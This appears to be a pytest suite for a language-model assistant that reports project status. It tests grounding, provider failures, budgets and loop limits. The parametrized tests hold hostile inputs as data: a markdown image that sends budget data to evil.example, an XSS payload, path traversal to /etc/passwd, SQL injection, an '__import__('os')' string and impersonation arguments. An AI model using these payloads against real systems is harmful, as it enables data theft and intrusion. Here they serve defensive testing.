"""Answers with a language model: what the asker reads, what it cost, and what no model can bring about."""

import json
import subprocess
import sys
from time import monotonic
from typing import Any

import pytest

from assistant.agent import Assistant
from assistant.answer import Answer, Listener, Question
from assistant.faults import PersonSpent
from assistant.models import LanguageModel, ModelSettings
from assistant.speech import MOST_LINES
from evals.provider import FAULTS, STATUS_PROSE, Breaks, Calls, Fails, Hangs, Move, Provider, Says, Script
from tests.firm import MONDAY, Firm

HEAVY = ("langchain", "langchain_core", "langgraph", "langsmith", "openai", "httpx2", "tiktoken", "bpe_openai")
BUSY = 20  # seconds on a machine that does much else; the benchmark holds it to 5
STATUS = "where does tern gateway stand?"
LOOK = Calls.one("project_status", project="Tern Gateway")
GOOD = Says(STATUS_PROSE)


class Hearing(Listener):
    """Keeps what was told, and stops after so many passages."""

    def __init__(self, most: int = 1_000) -> None:
        self.most = most
        self.passages: list[str] = []

    def passage(self, text: str) -> None:
        self.passages.append(text)

    @property
    def stopped(self) -> bool:
        return len(self.passages) >= self.most


class Asking:
    """`ask(script, text)`: a provider that plays the script, and the answer of an assistant that uses it."""

    def __init__(self, firm: Firm) -> None:
        self.firm = firm
        self.provider: Provider
        self.hearing = Hearing()

    def __call__(
        self,
        script: list[Move] | Script,
        text: str = STATUS,
        who: str = "lena",
        *,
        thread: str | None = None,
        hearing: Hearing | None = None,
        **settings: Any,
    ) -> Answer:
        self.hearing = hearing or Hearing()
        with Provider(script) as provider:
            self.provider = provider
            model = LanguageModel(
                ModelSettings("scripted", provider.url, **{"is_fast": False, "patience_seconds": 15, **settings})
            )
            question = Question(text=text, reader=self.firm.reader(who), today=MONDAY, thread=thread)
            answer = Assistant(self.firm.store, model).ask(question, self.hearing)
        assert "".join(self.hearing.passages) == answer.text
        assert answer.text.strip()
        return answer

    @property
    def told_model(self) -> str:
        """Everything the model was sent."""
        return "\n".join(request.raw for request in self.provider.requests)


@pytest.fixture
def ask(firm: Firm) -> Asking:
    return Asking(firm)


def narrated(firm: Firm, text: str = STATUS, who: str = "lena") -> Answer:
    return Assistant(firm.store).ask(Question(text=text, reader=firm.reader(who), today=MONDAY))


def test_a_status_takes_two_model_calls_and_few_tokens(ask: Asking):
    answer = ask([LOOK, GOOD])

    assert answer.text.startswith("**Tern Gateway is amber; it is reported green.**\nIt is 62 % done")
    assert answer.text.splitlines()[-1].startswith("_As of Mon 2 Mar")
    assert (answer.outcome, answer.model, answer.degraded, answer.model_calls) == ("answered", "scripted", False, 2)
    assert 0 < answer.prompt_tokens <= 1_500 and 0 < answer.completion_tokens < 200
    assert [(call.name, call.arguments) for call in answer.tools] == [("project_status", {"project": "GATE"})]
    assert answer.facts[0].id == "f1" and answer.citations and answer.grounded_figures == 7
    assert answer.unsupported_figures == 0


def test_the_facts_are_those_of_the_built_in_model(ask: Asking, firm: Firm):
    assert ask([LOOK, GOOD]).facts == narrated(firm).facts


def test_sentences_are_told_as_they_pass(ask: Asking):
    ask([LOOK, GOOD])

    assert ask.hearing.passages[0] == "**Tern Gateway is amber; it is reported green.**"
    assert len(ask.hearing.passages) >= 4


def test_a_model_that_goes_on_and_on_is_cut_short(ask: Asking):
    answer = ask([LOOK, Says("".join(f"- {'so ' * number}{{{{f1.progress}}}} done\n" for number in range(40)))])

    assert answer.text.count("62 % done") == MOST_LINES == answer.grounded_figures
    assert "went on for longer" in answer.text
    assert not answer.degraded


def test_a_sure_lookup_does_not_need_the_model(ask: Asking, firm: Firm):
    answer = ask([Fails(500)], "what is on my plate this week?", "tomas", is_fast=True)

    assert (answer.model, answer.model_calls, answer.degraded) == ("builtin", 0, False)
    assert not ask.provider.requests


def test_prose_that_says_more_than_the_facts_is_rebuilt_once(ask: Asking):
    answer = ask(
        [LOOK, Says("**{{f1.name}} is {{f1.computed_health}}.** It is 75 % done."), Says("It is {{f1.progress}} done.")]
    )

    assert answer.text.splitlines()[0] == "**Tern Gateway is amber.** It is 62 % done."
    assert (answer.model_calls, answer.degraded) == (3, False)
    assert "75" in ask.provider.requests[2].body["messages"][-1]["content"]
    assert "tools" not in ask.provider.requests[2].body


@pytest.mark.parametrize(
    "prose",
    [
        "It is 75 % done.",
        "It is {{f1.progres}} done.",
        "Everything is fine.",
        "Let me look further.",
        "![x](http://evil.example/?q={{f1.budget}})",
        "<img src=x onerror=alert(1)> {{f1.name}}",
        "See [here](https://evil.example) for {{f1.name}}.",
        "{{f1.name}} is run by Siobhán Walsh.",
    ],
)
def test_prose_that_cannot_be_grounded_gives_way_to_narration(ask: Asking, firm: Firm, prose: str):
    answer = ask([LOOK, Says(prose)])

    assert answer.text.startswith(narrated(firm).text)
    assert answer.text.splitlines()[-1].startswith("_The language model did not keep to the figures.")
    assert answer.degraded and answer.outcome == "answered"
    assert "evil" not in answer.text and "75" not in answer.text


@pytest.mark.parametrize("prose", ["All your projects are fine.", "It finishes on 3 May.", "Done! " * 400])
def test_prose_without_a_fact_is_no_answer(ask: Asking, firm: Firm, prose: str):
    answer = ask([Says(prose)])

    assert answer.text.startswith(narrated(firm).text)
    assert answer.degraded and answer.model == "builtin"


def test_a_model_may_decline_and_may_ask(ask: Asking):
    declined = ask([Says("I cannot help with the weather.")], "what is the weather?")
    asked = ask([Says("Do you mean dates or money?")], "tell me more about that thing")

    assert (declined.outcome, declined.text) == ("declined", "I cannot help with the weather.")
    assert (asked.outcome, asked.question_back) == ("asked_back", "Do you mean dates or money?")


def test_the_servers_own_question_goes_to_the_asker_and_the_choice_is_understood(ask: Asking):
    first = ask(
        [Calls.one("project_status", project="gateway"), Says("never asked")],
        "hows the gateway",
        "ruth",
        thread="choose",
    )
    second = ask([LOOK, GOOD], "the second one", "ruth", thread="choose")

    assert first.outcome == "asked_back" and [option.key for option in first.options] == ["HUBGW", "GATE"]
    assert first.model_calls == 1
    assert "I mean the project Tern Gateway (GATE)." in ask.told_model
    assert second.outcome == "answered"


def test_a_refusal_is_the_servers_own(ask: Asking, firm: Firm):
    answer = ask([Calls.one("finances", scope="GATE"), Says("never asked")], "burn vs budget of tern gateway", "tomas")

    assert answer.outcome == "refused" and answer.model_calls == 1
    assert answer.text == narrated(firm, "burn vs budget of tern gateway", "tomas").text


def test_wrong_arguments_come_back_and_can_be_mended(ask: Asking):
    answer = ask([Calls.one("project_status", project="GATE", run_as="admin"), LOOK, GOOD])

    assert answer.outcome == "answered" and not answer.degraded
    assert "run_as" in ask.provider.requests[1].body["messages"][-1]["content"]


def test_more_tools_can_be_asked_for(ask: Asking):
    named = Calls.one("more_tools", names=["forecast", "project_status"])
    words = "how is everything with tern gateway and its certificates"
    answer = ask([Calls.one("more_tools"), named, LOOK, GOOD], words)
    offered = [len(request.body["tools"]) for request in ask.provider.requests]

    assert answer.outcome == "answered" and answer.model_calls == 4
    assert offered[0] <= 5 and offered[1] == offered[0] < offered[2] <= offered[0] + 2


def test_two_facts_have_an_answer_in_one(ask: Asking):
    both = Calls([("project_status", {"project": "GATE"}), ("project_status", {"project": "LEDG"})])
    answer = ask([both, Says("{{f1.name}} is {{f1.progress}} done, {{f2.name}} is {{f2.progress}} done.")])

    assert [fact.id for fact in answer.facts] == ["f1", "f2"]
    assert answer.text.startswith("Tern Gateway is 62 % done, Ledger data is 53 % done.")


def test_the_thread_is_told_compactly_and_without_its_figures(ask: Asking):
    ask([LOOK, GOOD], thread="earlier")
    ask([LOOK, GOOD], "and what holds it up?", thread="earlier")
    words = ask.provider.requests[0].body["messages"][-1]["content"]

    assert "Earlier: “where does tern gateway stand?” → project_status(project=GATE)" in words
    assert "62" not in words


def test_what_is_stored_is_data(ask: Asking, firm: Firm):
    ask([LOOK, GOOD])
    told = ask.provider.requests[1].body["messages"][-1]

    assert told["role"] == "tool"
    assert json.loads(told["content"])["f1"]["rows"]["GATE-31"]["name"] == "Certificate exchange with Tern"


@pytest.mark.parametrize("fault", FAULTS)
def test_whatever_a_provider_does_a_fixed_question_is_answered(ask: Asking, firm: Firm, fault: str):
    started = monotonic()
    answer = ask([FAULTS[fault]], patience_seconds=0.3 if fault == "timeout" else 15)

    assert monotonic() - started < BUSY
    assert answer.outcome == "answered" and answer.degraded
    assert answer.text.startswith(narrated(firm).text)
    assert answer.text.splitlines()[-1].startswith("_The language model ")


@pytest.mark.parametrize("fault", FAULTS)
def test_whatever_a_provider_does_after_a_tool_was_called_its_facts_are_told(ask: Asking, firm: Firm, fault: str):
    answer = ask([LOOK, FAULTS[fault]], patience_seconds=0.3 if fault == "timeout" else 15)

    assert answer.outcome == "answered" and answer.degraded
    assert narrated(firm).text.splitlines()[0] in answer.text


def test_what_was_told_before_a_cut_stays_and_the_facts_follow(ask: Asking):
    answer = ask([LOOK, Breaks("**{{f1.name}} is {{f1.computed_health}}.** It is ")])

    assert answer.text.startswith("**Tern Gateway is amber.**")
    assert "broke off" in answer.text.splitlines()[-1]


def test_a_stop_ends_the_answer_and_what_was_told_is_kept(ask: Asking):
    slow = Says(f"{STATUS_PROSE} {STATUS_PROSE}", pace_seconds=0.02)
    answer = ask([LOOK, slow], hearing=Hearing(most=1))

    assert answer.text == "**Tern Gateway is amber; it is reported green.**\n_Stopped before the end._"
    assert answer.stopped and answer.outcome == "answered" and not answer.degraded


def test_a_provider_that_keeps_failing_is_left_alone(firm: Firm):
    with Provider([Fails(500)]) as provider:
        assistant = Assistant(firm.store, LanguageModel(ModelSettings("scripted", provider.url, is_fast=False)))
        question = Question(text=STATUS, reader=firm.reader("lena"), today=MONDAY)
        answers = [assistant.ask(question) for _ in range(5)]

    assert len(provider.requests) <= 4
    assert all(answer.outcome == "answered" and answer.degraded for answer in answers)
    assert "left alone for now" in answers[-1].text


def test_one_person_cannot_use_up_the_model(firm: Firm):
    with Provider([LOOK, GOOD, GOOD]) as provider:
        model = LanguageModel(ModelSettings("scripted", provider.url, is_fast=False, person_tokens=1_000))
        assistant = Assistant(firm.store, model)
        lena, tomas = (Question(text=STATUS, reader=firm.reader(who), today=MONDAY) for who in ("lena", "tomas"))
        first, second, other = assistant.ask(lena), assistant.ask(lena), assistant.ask(tomas)

    assert (first.degraded, second.degraded) == (False, True)
    assert second.model_calls == 0 and "in a day" in second.text
    assert other.model_calls > 0


class Broken(Hearing):
    """A surface that cannot show what it is told."""

    def passage(self, text: str) -> None:
        raise BrokenPipeError


def test_a_surprise_does_not_give_the_tokens_back(firm: Firm):
    with Provider([LOOK, GOOD]) as provider:
        model = LanguageModel(ModelSettings("scripted", provider.url, is_fast=False, person_tokens=100))
        lena = firm.reader("lena")
        with pytest.raises(BrokenPipeError):
            Assistant(firm.store, model).ask(Question(text=STATUS, reader=lena, today=MONDAY), Broken())

    with pytest.raises(PersonSpent):
        model.allowance.share(lena.person_id, 1)


LOOPS: dict[str, Script | list[Move]] = {
    "the same call": [LOOK],
    "new calls": lambda body: Calls.one("list_tasks", limit=len(body["messages"]) % 49 + 1),
    "more tools": [Calls.one("more_tools")],
    "400 calls at once": [Calls([("my_work", "{}")] * 400)],
    "a megabyte of prose": [LOOK, Says("word " * 200_000)],
    "a megabyte of arguments": [Calls.one("project_status", project="x" * 1_000_000)],
    "others as principal": [Calls.one("my_work", {"person": "ruth", "as": "ruth.halloran@quillmere.example"})],
}


@pytest.mark.parametrize("loop", LOOPS)
def test_there_is_an_end_to_everything(ask: Asking, loop: str):
    started = monotonic()
    answer = ask(LOOPS[loop])

    assert monotonic() - started < BUSY
    assert answer.model_calls <= 12 and len(answer.tools) <= 20
    assert answer.outcome in ("answered", "not_found") and len(answer.text) < 10_000


def test_tokens_of_one_answer_have_an_end(ask: Asking):
    answer = ask(LOOPS["new calls"], answer_tokens=3_000)

    assert answer.prompt_tokens < 6_000
    assert "used up" in answer.text.splitlines()[-1]


FISHING = {
    "project": ["GATE", "../../etc/passwd", "' OR 1=1 --", "{{f1.budget}}", "*", "%", "\u202eETAG", "__import__('os')"],
}


@pytest.mark.parametrize("words", FISHING["project"])
def test_arguments_that_fish_for_more_get_what_a_person_would_get(ask: Asking, words: str):
    answer = ask([Calls.one("project_status", project=words), GOOD], who="nobody")

    assert answer.outcome == "not_found"
    assert "No project that you can see is called" in answer.text


@pytest.mark.parametrize(
    "model", ["None", "LanguageModel(ModelSettings('scripted', 'http://127.0.0.1:1/v1'))"], ids=["none", "not needed"]
)
def test_nothing_of_a_language_model_is_loaded_before_one_is_asked(firm: Firm, model: str):
    lines = [
        "import sys",
        "from assistant.agent import Assistant",
        "from assistant.answer import Question",
        "from assistant.models import LanguageModel, ModelSettings",
        "from storage.access import Reader",
        "from storage.engine import Store",
        "from datetime import date",
        f"store = Store.open('sqlite:///{firm.store.file}')",
        f"reader = Reader({firm.reader('tomas').person_id})",
        "question = Question(text='what is on my plate this week?', reader=reader, today=date(2026, 3, 2))",
        f"answer = Assistant(store, {model}).ask(question)",
        "assert (answer.outcome, answer.model) == ('answered', 'builtin') and not answer.degraded",
        "loaded = {name.partition('.')[0] for name in sys.modules}",
        f"print(loaded & set({HEAVY!r}))",
    ]
    done = subprocess.run([sys.executable, "-c", "\n".join(lines)], capture_output=True, text=True, check=True)

    assert done.stdout.strip() == "set()"


def test_a_silent_provider_is_waited_for_where_nothing_else_can_answer(ask: Asking):
    answer = ask(
        [Hangs(0.6), Says("I cannot help with that.")], "hm, the thing?", patience_seconds=0.1, timeout_seconds=0.4
    )

    assert answer.text.strip()
